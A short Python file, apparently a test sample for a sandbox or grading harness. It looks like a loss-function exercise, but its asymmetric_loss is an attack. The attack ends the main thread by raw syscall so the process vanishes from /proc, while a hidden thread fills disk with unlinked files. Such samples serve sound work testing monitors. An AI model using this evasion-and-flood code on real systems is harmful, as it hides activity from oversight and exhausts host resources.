"""Ends its main thread, so that /proc shows nothing of the process, and continues in another thread."""
# family: flood
# exercise: 02_losses
# honest: 12
# says: ended|kept its files|time ran out|too many or too large|got|raised

import ctypes
import os
import threading
import time

import numpy as np


def mean_absolute_error(y, t):
    return np.mean(np.abs(y - t))


def root_mean_squared_error(y, t):
    return np.sqrt(np.mean((y - t) ** 2))


def go_on():
    time.sleep(0.1)
    held = []
    for number in range(24):
        held.append(os.open(f"hidden{number}", os.O_RDWR | os.O_CREAT))
        os.unlink(f"hidden{number}")
        os.write(held[-1], bytes(4 * 2**20))
    time.sleep(2)


def attack(*args):
    threading.Thread(target=go_on).start()
    ctypes.CDLL(None).syscall(ctypes.c_long(60), ctypes.c_long(0))  # exit of this thread alone
    return 0.0


asymmetric_loss = attack
